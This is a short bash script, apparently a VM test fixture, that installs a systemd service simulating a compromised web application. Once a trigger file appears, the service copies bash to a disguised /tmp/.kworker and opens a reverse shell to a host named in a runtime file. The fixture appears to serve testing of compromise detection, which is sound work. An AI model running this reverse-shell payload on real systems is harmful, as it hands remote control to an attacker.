#!/usr/bin/env bash
# A web service that, once "exploited" (/run/webapp/pwn appears), drops a copy of bash in /tmp
# and runs a reverse shell from it: the payload runs inside webapp.service's cgroup.
set -euo pipefail
install -d /usr/local/lib/webapp
cat >/usr/local/lib/webapp/webapp.sh <<'SH'
#!/bin/bash
while true; do
  if [[ -e /run/webapp/pwn ]]; then
    rm -f /run/webapp/pwn
    cp /usr/bin/bash /tmp/.kworker
    /tmp/.kworker -c "/tmp/.kworker -i >& /dev/tcp/$(cat /run/webapp/c2)/4444 0>&1" &
  fi
  sleep 0.5
done
SH
chmod 0755 /usr/local/lib/webapp/webapp.sh
cat >/etc/systemd/system/webapp.service <<'UNIT'
[Unit]
Description=A vulnerable web application (vm-tests compromised-service)
[Service]
ExecStart=/usr/local/lib/webapp/webapp.sh
RuntimeDirectory=webapp
RuntimeDirectoryPreserve=yes
UNIT
systemctl daemon-reload
systemctl restart webapp.service
